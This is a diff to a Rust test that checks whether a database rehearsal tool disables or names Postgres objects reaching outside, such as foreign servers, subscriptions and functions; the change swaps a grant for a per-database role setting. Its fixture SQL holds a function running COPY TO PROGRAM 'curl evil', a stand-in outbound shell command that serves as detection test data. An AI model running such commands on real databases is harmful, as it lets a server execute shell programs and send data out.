@@ -167,14 +167,14 @@ async fn what_reaches_outside_is_disabled_or_named() {
         create function export() returns void language sql as $$ copy (select 1) to program 'curl evil' $$;
         create table t (a int);
         create subscription sub connection 'host=prod.example dbname=x' publication p with (connect = false);
-        create role staff; grant select on t to staff"#,
+        create role staff; alter role staff in database outward set work_mem = '1MB'"#,
     );
     let (catalog, mut generation, _) = rehearse(pg, "outward", "outward_1_cc33", "cc33", 100, &no_rules).await;
     let disabled = |kind: &str| catalog.outbound.iter().find(|o| o.kind == kind).unwrap().disabled_by.is_some();
     assert!(disabled("foreign server") && disabled("user mapping") && disabled("subscription"));
     let named: Vec<&str> = catalog.outbound.iter().filter(|o| o.disabled_by.is_none()).map(|o| o.name.as_str()).collect();
     assert_eq!(named, ["public.export()", "public.push()"]);
-    assert!(catalog.not_carried.iter().any(|(name, _)| name == "grants to staff"));
+    assert!(catalog.not_carried.iter().any(|(name, _)| name == "settings of role staff in this database"));
     let q = |sql: &str| pg.try_sql("outward_1_cc33", sql);
     assert!(q("select * from over_remote").unwrap_err().contains("has no handler"));
     assert_eq!(q("select count(*) from pg_user_mapping").unwrap(), "0");
